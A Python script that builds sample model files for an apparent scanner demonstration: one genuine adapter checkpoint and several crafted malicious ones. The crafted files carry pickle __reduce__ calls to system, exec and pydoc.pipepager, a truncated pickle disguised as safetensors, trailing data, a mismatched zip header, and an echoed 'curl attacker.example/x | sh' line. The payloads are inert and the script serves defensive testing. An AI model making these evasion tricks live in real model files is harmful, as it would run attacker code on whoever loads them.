#!/usr/bin/python3
"""Write the samples of the demonstration into demo/models. Needs Debian's python3-torch for the genuine checkpoint.

The malicious ones are inert: what they would run is `echo`, and script/demo only scans them, never loads them."""
import io
import json
import pathlib
import pickle
import shutil
import struct
import sys
import warnings
import zipfile

HERE = pathlib.Path(__file__).resolve().parent
GOOD, BAD = HERE / 'models' / 'trusted-adapter', HERE / 'models' / 'from-a-stranger'
WHEN = (2026, 1, 1, 0, 0, 0)


class Run:
    """Pickles to a call, the way malicious models do."""
    def __init__(self, callee, *args):
        self.call = callee, args

    def __reduce__(self):
        return self.call


def fake(module, name):
    """A callable that pickles under a name of our choosing without importing it."""
    f = type(name, (), {})
    f.__module__, f.__qualname__ = module, name
    return f


class Pickler(pickle._Pickler):
    """Writes names without checking that they exist here."""
    def save_global(self, obj, name=None):
        self.write(b'c' + obj.__module__.encode() + b'\n' + obj.__qualname__.encode() + b'\n')

    dispatch = {**pickle._Pickler.dispatch, type: save_global}


def dumps(obj):
    out = io.BytesIO()
    Pickler(out, 2).dump(obj)
    return out.getvalue()


def safetensors(tensors):
    head, data = {}, b''
    for name, values in tensors.items():
        raw = struct.pack(f'<{len(values)}f', *values)
        head[name] = {'dtype': 'F32', 'shape': [len(values)], 'data_offsets': [len(data), len(data) + len(raw)]}
        data += raw
    text = json.dumps(head, separators=(',', ':')).encode()
    text += b' ' * (-len(text) % 8)
    return struct.pack('<Q', len(text)) + text + data


def stored(path, members):
    with zipfile.ZipFile(path, 'w') as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, WHEN), data)


def bad():
    BAD.mkdir(parents=True, exist_ok=True)
    shell = Run(fake('posix', 'system'), 'echo this could have been: curl attacker.example/x | sh')
    # The payload runs, then an ordinary result is returned: whoever loads it notices nothing.
    (BAD / 'classifier.pkl').write_bytes(dumps({'weights': [0.1, 0.2], 'hook': shell}))
    # A checkpoint whose pickle takes a detour that lists of forbidden names rarely have.
    quiet = Run(fake('pydoc', 'pipepager'), 'x', 'echo inert')
    stored(BAD / 'pytorch_model.bin', [('archive/data.pkl', dumps({'layer': quiet})), ('archive/version', b'3\n')])
    # Called .safetensors to look safe, and broken off so that naive scanners give up; Python has run it by then.
    (BAD / 'model.safetensors').write_bytes(dumps(Run(fake('builtins', 'exec'), 'print("inert")'))[:-1])
    # A real safetensors file with something behind it.
    (BAD / 'adapter_model.safetensors').write_bytes(safetensors({'w': [0.5] * 64}) + b'\x8f second stage, inert \x8f' * 20)
    # Two views of one archive: the directory says weights, the local header says a pickle.
    path = BAD / 'arrays.npz'
    stored(path, [('weights.npy', b'\x93NUMPY\x01\x00\x76\x00' + b"{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }"
                   .ljust(117) + b'\n' + struct.pack('<2f', 1, 2))])
    raw = bytearray(path.read_bytes())
    raw[30:41] = b'payload.pkl'
    path.write_bytes(raw)
    # Nobody can tell what this is, and that is what the answer must be.
    x, noise = 12345, bytearray()
    for _ in range(4096):
        x = (1103515245 * x + 12345) & 0x7fffffff
        noise.append(x >> 16 & 0xff)
    (BAD / 'vocab.enc').write_bytes(bytes(noise))


def good(source):
    """From the LoRA adapter of the project's models: the same tensors as a genuine torch.save checkpoint."""
    warnings.simplefilter('ignore')
    import torch
    GOOD.mkdir(parents=True, exist_ok=True)
    for name in ('README.md', 'adapter_config.json', 'adapter_model.safetensors'):
        shutil.copyfile(source / name, GOOD / name)
    raw = (GOOD / 'adapter_model.safetensors').read_bytes()
    n = struct.unpack('<Q', raw[:8])[0]
    kinds = {'F32': torch.float32, 'F16': torch.float16}
    tensors = {}
    for name, t in json.loads(raw[8:8 + n]).items():
        if name != '__metadata__':
            a, b = t['data_offsets']
            tensors[name] = torch.frombuffer(bytearray(raw[8 + n + a:8 + n + b]), dtype=kinds[t['dtype']]).reshape(t['shape'])
    torch.save(tensors, GOOD / 'adapter_model.bin')


if len(sys.argv) > 1:
    good(pathlib.Path(sys.argv[1]))
bad()
